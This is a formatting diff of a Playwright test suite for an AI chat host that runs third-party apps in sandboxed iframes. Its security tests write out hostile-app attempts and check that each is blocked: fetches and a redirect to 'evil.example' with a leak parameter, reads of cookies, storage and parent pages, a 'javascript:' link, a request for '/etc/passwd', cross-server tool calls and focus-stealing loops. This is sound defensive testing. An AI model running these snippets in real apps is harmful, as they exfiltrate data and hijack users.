@@ -22,7 +22,10 @@ pytestmark = [pytest.mark.asyncio(loop_scope="module"), pytest.mark.slow]
 BOARD = "ui://lab/board"
 META = {
     "ui": {
-        "csp": {"resourceDomains": ["https://cdn.example.com"], "connectDomains": ["https://api.example.com"]},
+        "csp": {
+            "resourceDomains": ["https://cdn.example.com"],
+            "connectDomains": ["https://api.example.com"],
+        },
         "permissions": {"geolocation": {}},
     }
 }
@@ -100,7 +103,14 @@ async def laboratory(
 ) -> AsyncIterator[tuple[Stage, Any, Any]]:
     """A conversation that shows the app: the stage, the page and the frame of the app. `noisy`: the browser may complain."""
     said = answers or (call("lab__board", text="it"), "Here it is.")
-    async with staged(chromium, *said, *["Well."] * 5, servers={"lab": lab, "bank": bank}, policy=Policy([rule]), **options) as stage:
+    async with staged(
+        chromium,
+        *said,
+        *["Well."] * 5,
+        servers={"lab": lab, "bank": bank},
+        policy=Policy([rule]),
+        **options,
+    ) as stage:
         page = await stage.page()
         await say(page, "Show the board")
         await app_of(page).get_by_text("An app").wait_for()
@@ -137,7 +147,9 @@ async def until(frame: Any, condition: str) -> None:
 async def test_an_app_shows_its_call_and_calls_with_approval(chromium: Any) -> None:
     """Nothing of it is loaded before its call is allowed; then it has input and result, and its own call is asked about
     (`APP-10`, `APP-11`, `APP-12`, `APP-23`, `APP-24`, `APP-26`, `APP-30`); what it shows goes with the next words (`APP-29`)."""
-    async with staged(chromium, call("game__roll_dice", count=3), "Done.", "Fine.", servers={"game": game}) as stage:
+    async with staged(
+        chromium, call("game__roll_dice", count=3), "Done.", "Fine.", servers={"game": game}
+    ) as stage:
         page = await stage.page()
         await say(page, "Roll three dice")
         await page.get_by_role("button", name="Allow once").wait_for()
@@ -146,8 +158,13 @@ async def test_an_app_shows_its_call_and_calls_with_approval(chromium: Any) -> N
         await app_of(page).get_by_text("in all").wait_for()
         frame = page.locator("iframe.app-window")
         assert await frame.get_attribute("sandbox") == "allow-scripts allow-same-origin"
-        assert await page.frame_locator("iframe.app-window").locator("iframe").get_attribute("sandbox") == "allow-scripts"
-        ended = next(note.event for note in await stage.host.log.read() if isinstance(note.event, CallEnded))
+        assert (
+            await page.frame_locator("iframe.app-window").locator("iframe").get_attribute("sandbox")
+            == "allow-scripts"
+        )
+        ended = next(
+            note.event for note in await stage.host.log.read() if isinstance(note.event, CallEnded)
+        )
         before = ", ".join(map(str, ended.result.structured_content["dice"]))
         assert await app_of(page).locator("#dice").get_attribute("aria-label") == before
         assert (await page.locator(".app-place").bounding_box())["height"] < 300
@@ -155,14 +172,23 @@ async def test_an_app_shows_its_call_and_calls_with_approval(chromium: Any) -> N
         await app_of(page).get_by_role("button", name="Roll again").click()
         await page.locator("[data-question]", has_text="An app").wait_for()
         await page.locator("[data-question] button:not([disabled])", has_text="Allow once").click()
-        await app_of(page).get_by_role("button", name="Roll again").and_(app_of(page).locator(":not([disabled])")).wait_for()
-        assert await page.locator("iframe.app-window").count() == 1  # an app's own calls show no further app
+        await (
+            app_of(page)
+            .get_by_role("button", name="Roll again")
+            .and_(app_of(page).locator(":not([disabled])"))
+            .wait_for()
+        )
+        assert (
+            await page.locator("iframe.app-window").count() == 1
+        )  # an app's own calls show no further app
         await shot(page, "app-called")
         events = [note.event for note in await stage.host.log.read()]
         assert [event.by for event in events if isinstance(event, CallProposed)] == ["model", "app"]
         await say(page, "What do they show?")
         await page.get_by_text("Fine.").wait_for()
-        said = [note.event for note in await stage.host.log.read() if isinstance(note.event, PersonSaid)][-1]
+        said = [
+            note.event for note in await stage.host.log.read() if isinstance(note.event, PersonSaid)
+        ][-1]
         now = await app_of(page).locator("#dice").get_attribute("aria-label")
         assert f"The dice show {now}." in said.messages[0].content[0].text
 
@@ -183,12 +209,23 @@ async def test_the_order_of_things(chromium: Any) -> None:
         assert answer["hostInfo"]["name"] == "interlock-host"
         assert answer["hostCapabilities"]["serverTools"] == {}
         context = answer["hostContext"]
-        assert (context["theme"], context["displayMode"], context["locale"]) == ("light", "inline", "en-US")
+        assert (context["theme"], context["displayMode"], context["locale"]) == (
+            "light",
+            "inline",
+            "en-US",
+        )
         assert context["containerDimensions"]["width"] > 300
         assert context["toolInfo"]["tool"]["name"] == "board"
-        await page.get_by_role("button", name="Looks").or_(page.locator("header button").last).first.click()
+        await (
+            page.get_by_role("button", name="Looks")
+            .or_(page.locator("header button").last)
+            .first.click()
+        )
         await until(frame, "heard.length >= 3")
-        methods = [message["method"].removeprefix("ui/notifications/") for message in await frame.evaluate("heard")]
+        methods = [
+            message["method"].removeprefix("ui/notifications/")
+            for message in await frame.evaluate("heard")
+        ]
         assert methods == ["tool-input", "tool-result", "host-context-changed"]
         given, result, _ = await frame.evaluate("heard")
         assert given["params"] == {"arguments": {"text": "it"}}
@@ -203,14 +240,19 @@ async def test_a_call_that_is_cancelled(chromium: Any) -> None:
         await until(frame, "heard.length === 1")
         next(iter(stage.host.sessions.values())).cancel()
         await until(frame, "heard.length === 2")
-        methods = [message["method"].removeprefix("ui/notifications/") for message in await frame.evaluate("heard")]
+        methods = [
+            message["method"].removeprefix("ui/notifications/")
+            for message in await frame.evaluate("heard")
+        ]
         assert methods == ["tool-input", "tool-cancelled"]
 
 
 async def test_what_is_no_message_is_dropped(chromium: Any) -> None:
     """Junk gets no answer and does no harm; what nobody knows is refused; what is reserved never passes (`APP-13`, `APP-30`)."""
     async with laboratory(chromium) as (_, page, frame):
-        await page.evaluate("window.passed = []; window.addEventListener('message', (event) => passed.push(event.data))")
+        await page.evaluate(
+            "window.passed = []; window.addEventListener('message', (event) => passed.push(event.data))"
+        )
         await frame.evaluate(
             "for (const junk of [1, 'x', null, [], {}, {jsonrpc: '2.0'}, {jsonrpc: '1.0', id: 1, method: 'ping'}, {jsonrpc: '2.0', id: {}, method: 'ping'},"
             " {jsonrpc: '2.0', id: 5, method: 7}, {jsonrpc: '2.0', id: 6, method: 'ping', params: 'x'}, {jsonrpc: '2.0', id: 'host-1', result: {}},"
@@ -218,7 +260,12 @@ async def test_what_is_no_message_is_dropped(chromium: Any) -> None:
         )
         assert (await ask(frame, "resources/list"))["code"] == -32600
         await greet(frame)
-        for method, params in [("resources/list", {}), ("sampling/createMessage", {}), ("ui/unknown", {}), ("__proto__", {})]:
+        for method, params in [
+            ("resources/list", {}),
+            ("sampling/createMessage", {}),
+            ("ui/unknown", {}),
+            ("__proto__", {}),
+        ]:
             assert (await ask(frame, method, **params))["code"] == -32601
         for method, params in [("tools/call", {"name": 7}), ("tools/call", {"name": "board", "arguments": []}), ("resources/read", {}), ("ui/open-link", {"url": "javascript:alert(1)"}),
                                ("ui/message", {"role": "assistant", "content": {"type": "text", "text": "x"}}), ("ui/message", {"role": "user", "content": {"type": "image"}})]:  # fmt: skip
@@ -232,13 +279,26 @@ async def test_size_and_mode(chromium: Any) -> None:
         await greet(frame)
         place = page.locator(".app-place")
         for asked, height in [(333, 333), (1, 60), (10**9, 720), (222, 222)]:
-            await frame.evaluate("height => tell('ui/notifications/size-changed', { width: 5000, height })", asked)
-            await page.wait_for_function("height => Math.abs(document.querySelector('.app-place').clientHeight - height) < 2", arg=height)
-        await frame.evaluate("for (const height of ['x', -5, null]) tell('ui/notifications/size-changed', { height })")
+            await frame.evaluate(
+                "height => tell('ui/notifications/size-changed', { width: 5000, height })", asked
+            )
+            await page.wait_for_function(
+                "height => Math.abs(document.querySelector('.app-place').clientHeight - height) < 2",
+                arg=height,
+            )
+        await frame.evaluate(
+            "for (const height of ['x', -5, null]) tell('ui/notifications/size-changed', { height })"
+        )
         assert await ask(frame, "ui/request-display-mode", mode="pip") == {"mode": "inline"}
-        assert await ask(frame, "ui/request-display-mode", mode="fullscreen") == {"mode": "fullscreen"}
-        await page.wait_for_function("() => document.querySelector('.app-place').clientHeight > 700")
-        assert (await page.locator(".app-bar").bounding_box())["y"] < 5  # whose app it is stands above it all the same
+        assert await ask(frame, "ui/request-display-mode", mode="fullscreen") == {
+            "mode": "fullscreen"
+        }
+        await page.wait_for_function(
+            "() => document.querySelector('.app-place').clientHeight > 700"
+        )
+        assert (await page.locator(".app-bar").bounding_box())[
+            "y"
+        ] < 5  # whose app it is stands above it all the same
         await shot(page, "app-full")
         await page.get_by_role("button", name="Back to the conversation").click()
         await until(frame, "heard.some((message) => message.params.displayMode === 'inline')")
@@ -257,30 +317,47 @@ async def test_links_and_words_go_past_the_person(chromium: Any) -> None:
     """A page opens after the person has seen its whole address; words are said after they agreed to them (`APP-29`)."""
     async with laboratory(chromium) as (stage, page, frame):
         await greet(frame)
-        waiting = asyncio.create_task(ask(frame, "ui/open-link", url="https://pay.example.com/order?id=7"))
+        waiting = asyncio.create_task(
+            ask(frame, "ui/open-link", url="https://pay.example.com/order?id=7")
+        )
         box = page.locator("[data-question]")
-        assert await box.get_by_label("The whole address").inner_text() == "https://pay.example.com/order?id=7"
-        await box.get_by_role("button", name="Decline").and_(box.locator(":not([disabled])")).click()
+        assert (
+            await box.get_by_label("The whole address").inner_text()
+            == "https://pay.example.com/order?id=7"
+        )
+        await (
+            box.get_by_role("button", name="Decline").and_(box.locator(":not([disabled])")).click()
+        )
         assert (await waiting)["code"] == -32000
         text = "Book the flight.\u202e"
         for label, yes in [("Do not say it", False), ("Say it", True)]:
-            waiting = asyncio.create_task(ask(frame, "ui/message", role="user", content={"type": "text", "text": text}))
+            waiting = asyncio.create_task(
+                ask(frame, "ui/message", role="user", content={"type": "text", "text": text})
+            )
             wish = page.get_by_role("group", name="The app wants to say something")
             await wish.get_by_text("U+202E").wait_for()
-            assert (await ask(frame, "ui/message", role="user", content={"type": "text", "text": "another"}))["code"] == -32000
+            assert (
+                await ask(
+                    frame, "ui/message", role="user", content={"type": "text", "text": "another"}
+                )
+            )["code"] == -32000
             await shot(page, "app-wish")
             await wish.get_by_role("button", name=label, exact=True).click()
             answer = await waiting
             assert (answer == {}) == yes
         await page.locator("article.said", has_text="Book the flight.").wait_for()
-        said = [note.event for note in await stage.host.log.read() if isinstance(note.event, PersonSaid)]
+        said = [
+            note.event for note in await stage.host.log.read() if isinstance(note.event, PersonSaid)
+        ]
         assert len(said) == 2
 
 
 async def test_an_app_is_told_before_it_goes(chromium: Any) -> None:
     """Closed, or left with its conversation: it hears of it and can end its work (`APP-25`)."""
     async with laboratory(chromium) as (_, page, frame):
-        await page.evaluate("window.passed = []; window.addEventListener('message', (event) => passed.push(event.data))")
+        await page.evaluate(
+            "window.passed = []; window.addEventListener('message', (event) => passed.push(event.data))"
+        )
         ended = "passed.filter((one) => one.result?.ended).length"
         await greet(frame)
         await page.get_by_role("button", name="Close the app").click()
@@ -305,14 +382,17 @@ async def test_what_a_hostile_app_can_reach(chromium: Any) -> None:
         }  # fmt: skip
         for name, code in tries.items():
             assert await frame.evaluate(
-                "code => { try { return String(globalThis.eval(code)) } catch (bad) { return bad.name } }", code
+                "code => { try { return String(globalThis.eval(code)) } catch (bad) { return bad.name } }",
+                code,
             ) in ("SecurityError", "EvalError", "InvalidStateError"), name
         for name, does in {
             "page": "() => parent.parent.document.title", "proxy": "() => parent.document.title", "top": "() => top.location.href",
             "cookie": "() => document.cookie", "storage": "() => localStorage.length", "database": "() => indexedDB.open('x')", "session": "() => sessionStorage.length",
         }.items():  # fmt: skip
             assert (
-                await frame.evaluate(f"() => {{ try {{ return String(({does})()) }} catch (bad) {{ return bad.name }} }}")
+                await frame.evaluate(
+                    f"() => {{ try {{ return String(({does})()) }} catch (bad) {{ return bad.name }} }}"
+                )
                 == "SecurityError"
             ), name
         assert await frame.evaluate("window.origin") == "null"
@@ -365,7 +445,9 @@ async def test_what_a_hostile_app_can_load(chromium: Any) -> None:
         await frame.evaluate(
             "const link = document.createElement('link'); link.rel = 'prefetch'; link.href = 'https://evil.example/prefetch'; document.head.append(link)"
         )
-        await frame.evaluate("void new Worker(URL.createObjectURL(new Blob(['fetch(\"https://evil.example/worker\")'])))")
+        await frame.evaluate(
+            "void new Worker(URL.createObjectURL(new Blob(['fetch(\"https://evil.example/worker\")'])))"
+        )
         await frame.evaluate("setTimeout(() => { location.href = 'https://evil.example/?leak=1' })")
         await page.frame_locator("iframe.app-window").locator("iframe").wait_for(state="detached")
         assert gone == ["https://cdn.example.com/a.svg", "https://api.example.com/a"]
@@ -375,24 +457,38 @@ async def test_what_a_hostile_app_can_call(chromium: Any) -> None:
     """Its own server's tools for apps; not hidden ones, not those of others, whatever it writes (`APP-08`, `APP-09`)."""
     async with laboratory(chromium) as (stage, _, frame):
         await greet(frame)
-        assert (await ask(frame, "tools/call", name="board", arguments={"text": "mine"}))["content"][0]["text"] == "shown mine"
+        assert (await ask(frame, "tools/call", name="board", arguments={"text": "mine"}))[
+            "content"
+        ][0]["text"] == "shown mine"
         for name in ("secret", "transfer", "bank__transfer", "lab__board"):
-            assert (await ask(frame, "tools/call", name=name, server="bank", app="x"))["code"] == -32000
+            assert (await ask(frame, "tools/call", name=name, server="bank", app="x"))[
+                "code"
+            ] == -32000
         assert (await ask(frame, "resources/read", uri="file:///etc/passwd"))["code"] == -32000
         assert (await ask(frame, "resources/read", uri=BOARD))["contents"][0]["text"] == LAB
-        called = [note.event.tool for note in await stage.host.log.read() if isinstance(note.event, CallProposed)]
+        called = [
+            note.event.tool
+            for note in await stage.host.log.read()
+            if isinstance(note.event, CallProposed)
+        ]
         assert called == ["board", "board"]
 
 
 async def test_a_flood_does_not_freeze_the_page(chromium: Any) -> None:
     """Ten thousand messages, and then no end: the person goes on, is told, and can close it (`APP-30`)."""
     async with laboratory(chromium) as (_, page, frame):
-        await page.evaluate("window.passed = 0; window.addEventListener('message', () => { passed += 1 })")
+        await page.evaluate(
+            "window.passed = 0; window.addEventListener('message', () => { passed += 1 })"
+        )
         await greet(frame)
-        await frame.evaluate("for (let at = 0; at < 10000; at += 1) post({ jsonrpc: '2.0', id: 'f' + at, method: 'ping' })")
+        await frame.evaluate(
+            "for (let at = 0; at < 10000; at += 1) post({ jsonrpc: '2.0', id: 'f' + at, method: 'ping' })"
+        )
         await page.get_by_text("sends more messages than are heard").wait_for()
         assert await page.evaluate("passed") < 500
-        await frame.evaluate("setTimeout(() => { for (;;) post({ jsonrpc: '2.0', method: 'ping' }) })")
+        await frame.evaluate(
+            "setTimeout(() => { for (;;) post({ jsonrpc: '2.0', method: 'ping' }) })"
+        )
         field = page.get_by_label("What you say")
         await field.fill("still here")
         assert await field.input_value() == "still here"
@@ -409,14 +505,22 @@ async def test_permissions_are_lent_by_the_person(chromium: Any) -> None:
         await page.get_by_role("button", name="Allow, and begin again").click()
         await page.locator("iframe.app-window[allow=geolocation]").wait_for()
         await app_of(page).get_by_text("An app").wait_for()
-        assert await next(frame for frame in page.frames if frame.url == "about:srcdoc").evaluate(allowed) is True
+        assert (
+            await next(frame for frame in page.frames if frame.url == "about:srcdoc").evaluate(
+                allowed
+            )
+            is True
+        )
 
 
 async def test_an_app_on_a_telephone(chromium: Any) -> None:
     """It is as wide as the card, and the page does not move sideways."""
     async with laboratory(chromium) as (stage, _, _):
         page = await stage.page(size=TELEPHONE)
-        await page.evaluate("session => { location.hash = session; location.reload() }", next(iter(stage.host.sessions)))
+        await page.evaluate(
+            "session => { location.hash = session; location.reload() }",
+            next(iter(stage.host.sessions)),
+        )
         await app_of(page).get_by_text("An app").wait_for()
         assert await page.evaluate("document.documentElement.scrollWidth <= innerWidth")
         await shot(page, "app-telephone")
@@ -425,13 +529,17 @@ async def test_an_app_on_a_telephone(chromium: Any) -> None:
 async def test_an_app_does_not_get_what_is_typed_elsewhere(chromium: Any) -> None:
     """Who takes the focus from under the person's fingers loses its place; who clicks into an app is in it."""
     async with laboratory(chromium) as (_, page, frame):
-        await frame.evaluate("() => { window.field = document.createElement('input'); document.body.append(field) }")
+        await frame.evaluate(
+            "() => { window.field = document.createElement('input'); document.body.append(field) }"
+        )
         field = page.get_by_label("What you say")
         await field.fill("a")
         await app_of(page).locator("input").click()
         await page.keyboard.type("mine")
         assert await frame.evaluate("field.value") == "mine"
-        await frame.evaluate("() => { field.value = ''; field.blur(); setInterval(() => { field.focus(); window.focus() }, 5) }")
+        await frame.evaluate(
+            "() => { field.value = ''; field.blur(); setInterval(() => { field.focus(); window.focus() }, 5) }"
+        )
         async with asyncio.timeout(8):
             while not await page.get_by_text("it took the focus").count():
                 await field.focus()
